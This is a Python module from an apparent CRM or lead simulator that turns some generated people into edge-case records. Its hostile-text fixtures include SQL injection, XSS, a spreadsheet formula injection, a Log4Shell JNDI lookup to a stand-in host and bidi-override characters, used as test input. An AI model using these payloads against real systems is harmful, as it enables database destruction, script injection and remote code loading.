"""Peculiar people: who they are is changed before either platform hears of them, so both tell the same.

Each kind takes its people from the whole, so that a company of 5,000 still has 5,000.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from simulator.company.accounts import Firm
from simulator.company.dice import Weighted, dice
from simulator.company.market import UNSUPPORTED, UNSUPPORTED_INDUSTRIES
from simulator.company.names import (
    COMPETITOR_DOMAINS,
    COMPETITOR_NAMES,
    OWN_DOMAIN,
    ROLE_LOCALS,
    Names,
    ascii_letters,
)
from simulator.company.people import Person
from simulator.company.titles import HOSTILE_TITLES, NO_STUDENT_TITLES, STUDENT_TITLES, Job

# Share of all people; at least one of each.
SHARES: dict[str, float] = {
    "student": 0.006,
    "no_student": 0.0024,
    "competitor": 0.003,
    "own_staff": 0.0014,
    "test_address": 0.0016,
    "job_seeker": 0.003,
    "unsupported_region": 0.005,
    "unsupported_vertical": 0.004,
    "hostile_text": 0.002,
    "non_latin": 0.003,
    "role_address": 0.002,
    "near_miss": 0.0024,
    "clear_case": 0.0032,
}
# Of a hundred newcomers three are peculiar as well.
AMONG_NEWCOMERS = 0.03
NEWCOMERS = Weighted(
    [
        ("student", 30),
        ("no_student", 10),
        ("competitor", 14),
        ("test_address", 10),
        ("unsupported_region", 18),
        ("unsupported_vertical", 8),
        ("hostile_text", 4),
        ("non_latin", 6),
    ]
)
_HOSTILE_NAMES = (
    ("Robert'); DROP TABLE Leads;--", "Tables"),
    ("<img src=x onerror=alert(1)>", "O'Brien"),
    ('=HYPERLINK("http://x.example")', "Sum"),
    ("Zoë\u200b\u202e", "Ångström"),
    ("null", "Null"),
    ("Ada", "Undefined\r\nNewline"),
    ("${jndi:ldap://x.example/a}", "Log"),
    ("😀🏳️‍🌈", "Émoji"),
    ("NaN", "Infinity"),
    ('Quote"d', "Comma, Semi;colon"),
)
_HOSTILE_COMPANIES = (
    'A & B "Sons", Ltd; --',
    "null",
    "<b>Bold</b> Holdings",
    "‮evil‬ Corp",
    "株式会社 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
)
_IDEAL = Job("Director of Operations", "director", "Operations")


def choose(seed: int, people: int) -> dict[int, str]:
    """Which numbers become peculiar, and in what way; nobody in two ways."""
    if people < 100:
        return {}
    rng = dice(seed, "peculiar")
    free = rng.sample(range(people), min(people, round(people * sum(SHARES.values())) + len(SHARES)))
    chosen: dict[int, str] = {}
    for kind, share in SHARES.items():
        for _ in range(max(1, round(people * share))):
            chosen[free.pop()] = kind
    return chosen


class Peculiar:
    """Turns an ordinary drawn person into one of a kind."""

    def __init__(self, names: Names, ideal: list[Firm]) -> None:
        self._names = names
        self._ideal = ideal
        self._hostile_ones = 0  # so that every name of the list comes up
        self._turn: dict[str, Callable[[Person, Random], None]] = {
            "student": self._student,
            "no_student": self._no_student,
            "competitor": self._competitor,
            "own_staff": self._own_staff,
            "test_address": self._test_address,
            "job_seeker": self._job_seeker,
            "unsupported_region": self._region,
            "unsupported_vertical": self._vertical,
            "hostile_text": self._hostile,
            "non_latin": self._non_latin,
            "role_address": self._role,
            "near_miss": self._suited,
            "clear_case": self._suited,
        }

    def make(self, person: Person, kind: str, rng: Random) -> None:
        self._turn[kind](person, rng)

    def _student(self, person: Person, rng: Random) -> None:
        person.title = rng.choice(STUDENT_TITLES)
        person.job = Job(person.title, "other", "Marketing")

    def _no_student(self, person: Person, rng: Random) -> None:
        person.title = rng.choice(NO_STUDENT_TITLES)
        person.job = Job(person.title, "director", "Sales")

    def _competitor(self, person: Person, rng: Random) -> None:
        place = rng.randrange(len(COMPETITOR_DOMAINS))
        person.company, person.firm = COMPETITOR_NAMES[place], None
        person.email = self._names.address(rng, person.first or "", person.last, COMPETITOR_DOMAINS[place])

    def _own_staff(self, person: Person, rng: Random) -> None:
        person.company, person.firm = "Northbeam Systems", None
        person.email = self._names.address(rng, person.first or "", person.last, OWN_DOMAIN)

    def _test_address(self, person: Person, rng: Random) -> None:
        person.first, person.last, person.company, person.title = "Test", "Test", "test", "test"
        local, domain = rng.choice(
            (("asdf", "mailinator.com"), ("qa.test+", OWN_DOMAIN), ("test", "example.com"))
        )
        person.email = f"{local}{rng.randrange(10_000, 99_999)}@{domain}"

    def _job_seeker(self, person: Person, rng: Random) -> None:
        person.temper, person.channel, person.source, person.mailable = "silent", "job", "Web", False

    def _region(self, person: Person, rng: Random) -> None:
        person.country = rng.choice(UNSUPPORTED)
        person.country_text = person.country.name

    def _vertical(self, person: Person, rng: Random) -> None:
        person.industry = rng.choice(UNSUPPORTED_INDUSTRIES)

    def _hostile(self, person: Person, rng: Random) -> None:
        person.first, person.last = _HOSTILE_NAMES[self._hostile_ones % len(_HOSTILE_NAMES)]
        self._hostile_ones += 1
        if rng.random() < 0.6:
            person.title = rng.choice(HOSTILE_TITLES)
        if rng.random() < 0.6:
            person.company = rng.choice(_HOSTILE_COMPANIES)

    def _non_latin(self, person: Person, rng: Random) -> None:
        person.first, person.last = rng.choice(
            (
                ("太郎", "山田"),
                ("Наталья", "Иванова"),
                ("محمد", "الشيخ"),
                ("יהודה", "לב"),
                ("Ειρήνη", "Ποταμιάνου"),
                ("静", "唐"),
            )
        )

    def _role(self, person: Person, rng: Random) -> None:
        if person.firm is not None:
            person.email = f"{rng.choice(ROLE_LOCALS)}@{person.firm.domain}"

    def _suited(self, person: Person, rng: Random) -> None:
        """Everything that fit asks for, and nothing left to chance."""
        firm = self._ideal[rng.randrange(len(self._ideal))] if self._ideal else person.firm
        if firm is None:
            return
        person.firm, person.company, person.country = firm, firm.name, firm.country
        person.job, person.title = _IDEAL, _IDEAL.title
        person.country_text, person.industry, person.employees = (
            firm.country.name,
            firm.industry,
            firm.employees,
        )
        person.email = self._names.address(
            rng, person.first or ascii_letters(person.last), person.last, firm.domain
        )
        person.phone = person.phone or "+49 30 5550199"
        person.temper, person.mailable, person.channel = "silent", True, "newsletter"


def ideal_firms(firms: list[Firm]) -> list[Firm]:
    """Firms that fit and that nothing is or was sold to, in the regions sold to most."""
    wanted = ("Technology", "Manufacturing", "Finance")
    return [
        firm
        for firm in firms
        if firm.standing in (None, "quiet")
        and firm.industry in wanted
        and 200 <= firm.employees <= 5000
        and firm.country.code in ("US", "GB", "DE")
    ]
